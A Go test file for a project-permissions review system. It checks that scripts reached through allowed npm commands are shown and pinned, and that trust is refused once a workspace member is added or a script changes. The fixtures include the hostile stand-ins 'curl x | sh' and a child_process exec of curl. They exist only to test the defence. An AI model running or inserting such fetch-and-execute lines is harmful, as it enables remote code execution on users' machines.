// SPDX-License-Identifier: Apache-2.0

package permissions_test

import (
	"errors"
	"path/filepath"
	"strings"
	"testing"

	"memo.dev/projects/domain"
	"memo.dev/projects/domain/permissions"
)

// The review shows each definition a rule reaches through what it runs —
// a workspace member's script, a script a recipe runs — and a new member
// added after trust as added; the review's hash covers them, so a trust of
// a review that did not show the change is refused, and Save with the
// review's hash pins only what that review showed.
func TestReviewShowsFollowedDefinitions(t *testing.T) {
	f := newFixture(t)
	root := f.setUp(t)
	writeFile(t, filepath.Join(root, "package.json"), `{"workspaces": ["packages/*"], "scripts": {"test": "npm test --workspaces", "build": "node scripts/build.js"}}`)
	writeFile(t, filepath.Join(root, "packages", "a", "package.json"), `{"scripts": {"test": "jest"}}`)
	writeFile(t, filepath.Join(root, "scripts", "build.js"), "console.log(1)\n")
	writeFile(t, permissions.Path(root), `{"version": 1, "allowed_commands": ["npm test", "npm run build"]}`)
	if _, err := f.perms.Trust(root); err != nil {
		t.Fatal(err)
	}
	st, _ := f.perms.Show(root)
	shown := map[string]string{}
	for _, d := range st.Definitions {
		shown[d.File+" "+d.Key] = d.State
	}
	for _, want := range []string{"packages/a/package.json scripts.test", "scripts/build.js "} {
		if shown[want] != permissions.DefUnchanged {
			t.Errorf("the review after trust shows %v, want %q unchanged", shown, want)
		}
	}
	rep := st.Report()
	for _, r := range rep.Rules {
		if r.Rule == "npm run build" && !strings.Contains(labelText(r.Labels), "scripts/build.js") {
			t.Errorf("npm run build labels %q, want the pinned script named and its imports said not followed", labelText(r.Labels))
		}
	}

	// A member added after trust: the line asks, the review shows it added.
	writeFile(t, filepath.Join(root, "packages", "b", "package.json"), `{"scripts": {"test": "curl x | sh"}}`)
	if v, _ := f.perms.CheckCommand(root, "npm test"); v.Approved || v.BlockedBy == nil || v.BlockedBy.File != "packages/b/package.json" {
		t.Errorf("npm test after a member was added: %+v", v)
	}
	if pending, _ := f.perms.Pending(root); !pending {
		t.Errorf("not pending after a member was added")
	}
	st, _ = f.perms.Show(root)
	added := false
	for _, d := range st.Definitions {
		if d.File == "packages/b/package.json" && d.Key == "scripts.test" && d.State == permissions.DefAdded && d.Text == "curl x | sh" {
			added = true
		}
	}
	if !added {
		t.Fatalf("the review does not show the new member's script as added: %+v", st.Definitions)
	}
	reviewed := st.ReviewHash

	// The followed script changes after that review: trusting the review
	// is refused, naming the script.
	writeFile(t, filepath.Join(root, "scripts", "build.js"), "require('child_process').exec('curl x')\n")
	_, err := f.perms.TrustReviewed(root, reviewed)
	if !errors.Is(err, domain.ErrConflict) || !strings.Contains(err.Error(), "build.js") {
		t.Errorf("TrustReviewed after the followed script changed: %v, want a conflict naming scripts/build.js", err)
	}
	// Save with that review's hash, the project no longer as reviewed,
	// pins neither the member nor the script: both rules ask, and the
	// answer lists both as not pinned.
	saved, err := f.perms.SaveReviewed(root, []byte(`{"version": 1, "allowed_commands": ["npm test", "npm run build"]}`), reviewed)
	if err != nil {
		t.Fatal(err)
	}
	var notPinned []string
	for _, d := range saved.NotPinned {
		notPinned = append(notPinned, d.File)
	}
	if got := strings.Join(notPinned, " "); !strings.Contains(got, "packages/b/package.json") || !strings.Contains(got, "scripts/build.js") {
		t.Errorf("not pinned by the save: %q, want the new member and the changed script", got)
	}
	for _, line := range []string{"npm test", "npm run build"} {
		if v, _ := f.perms.CheckCommand(root, line); v.Approved {
			t.Errorf("%s after saving a review the project no longer matches: %+v", line, v)
		}
	}
	if _, err := f.perms.TrustReviewed(root, saved.ReviewHash); err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{"npm test", "npm run build"} {
		if v, _ := f.perms.CheckCommand(root, line); !v.Approved {
			t.Errorf("%s after trusting the review that showed it: %+v", line, v)
		}
	}
}

func labelText(labels []domain.Text) string {
	var out []string
	for _, l := range labels {
		out = append(out, l.String())
	}
	return strings.Join(out, "; ")
}
